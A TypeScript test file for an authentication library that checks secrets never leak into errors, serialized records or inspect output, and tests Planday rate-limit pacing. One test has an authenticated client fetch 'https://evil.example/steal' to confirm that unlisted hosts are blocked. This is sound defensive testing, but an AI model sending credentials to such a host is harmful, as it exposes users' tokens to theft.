import { inspect } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DEMO_CLIENTS } from '@authkit/sandbox';
import { RateLimitedError } from '../src/index';
import { caught, startHarness } from './helpers/sandbox';
import type { Harness } from './helpers/sandbox';

let h: Harness;
beforeEach(async () => {
  h = await startHarness({}, { pacingPortalPerSecond: 4 });
});
afterEach(async () => {
  await h.close();
});

function expectNoSecret(value: unknown, secrets: string[]): void {
  const texts = [
    value instanceof Error ? value.message : '',
    JSON.stringify(value),
    String(value),
    inspect(value, { depth: 10, showHidden: false }),
  ];
  for (const text of texts) for (const secret of secrets) expect(text).not.toContain(secret);
}

describe('secrets never leak', () => {
  it('error messages, JSON, inspect output and records never contain tokens or keys used in the flows', async () => {
    const secrets: string[] = [];
    const thrown: unknown[] = [];
    // iGUIDE verify failure with a wrong token value.
    const token = h.sandbox.iguide.createApiToken({ scopes: ['iguide.list'] });
    secrets.push(token.token, 'wrong-iguide-token-value-123');
    thrown.push(await caught(h.authkit.connectStatic({ providerId: 'iguide', ownerId: 'u', credential: { kind: 'api_token', tokenId: token.id, tokenValue: 'wrong-iguide-token-value-123' } })));
    // Planday bootstrap with a bad refresh token.
    secrets.push('bad-planday-refresh-token-456');
    thrown.push(await caught(h.authkit.connectRefreshToken({ providerId: 'planday', ownerId: 'u', refreshToken: 'bad-planday-refresh-token-456' })));
    // A real OAuth connection, then a token endpoint outage and an invalid_grant.
    const connection = await h.connectOAuth('plannr', 'user-1');
    const record = await h.authkit.readConnectionRecord(connection.id);
    if (record?.credential.kind !== 'oauth2') throw new Error('expected oauth2');
    secrets.push(record.credential.accessToken.reveal(), record.credential.refreshToken?.reveal() ?? 'missing', DEMO_CLIENTS.plannr.clientSecret);
    expectNoSecret(record, secrets);
    expectNoSecret(connection, secrets);
    h.sandbox.clock.advance((record.credential.expiresAt ?? 0) - h.sandbox.now());
    h.sandbox.faults.inject('plannr.token', { kind: 'malformed' });
    thrown.push(await caught(h.authkit.client('plannr', connection.id).fetch('/api/v1/contacts')));
    h.sandbox.faults.clear();
    h.sandbox.clock.advance(200 * 24 * 60 * 60_000);
    thrown.push(await caught(h.authkit.client('plannr', connection.id).fetch('/api/v1/contacts')));
    // A 401 from the API with a static token.
    const { token: pat } = h.sandbox.oauth2.createPersonalAccessToken();
    secrets.push(pat);
    const patConnection = await h.authkit.connectStatic({ providerId: 'oauth2', ownerId: 'u', credential: { kind: 'personal_access_token', token: pat } });
    expectNoSecret(await h.authkit.readConnectionRecord(patConnection.id), secrets);
    thrown.push(await caught(h.authkit.client('oauth2', patConnection.id).fetch('https://evil.example/steal')));

    expect(thrown.map((e) => (e as { code?: string }).code)).toEqual([
      'invalid_credential',
      'invalid_credential',
      'token_endpoint_error',
      'reauthorization_required',
      'host_not_allowed',
    ]);
    for (const error of thrown) {
      expect((error as { providerId?: string }).providerId).toBeTruthy();
      expectNoSecret(error, secrets);
    }
  });
});

describe('pacing', () => {
  it('keeps a Planday portal under its per-second limit by delaying instead of failing', async () => {
    h.sandbox.settings.rateLimits.plandayPortalPerSecond = 5;
    const { refreshToken } = h.sandbox.planday.mintRefreshToken({ portalId: 'portal-1', clientId: DEMO_CLIENTS.planday.clientId });
    const unpaced = await h.authkit.connectRefreshToken({ providerId: 'planday', ownerId: 'tenant', refreshToken });
    const burst = await Promise.allSettled(Array.from({ length: 30 }, () => h.authkit.client('planday', unpaced.id).fetch('/hr/v1/Departments')));
    expect(burst.some((r) => r.status === 'rejected' && r.reason instanceof RateLimitedError)).toBe(true);

    const paced = h.makeAuthKit({ pacing: true, store: h.authkit.store });
    await new Promise((resolve) => setTimeout(resolve, 1100)); // let the sandbox window from the burst pass
    const results = await Promise.allSettled(Array.from({ length: 12 }, () => paced.client('planday', unpaced.id).fetch('/hr/v1/Departments')));
    expect(results.filter((r) => r.status === 'rejected')).toEqual([]);
  }, 30_000);
});
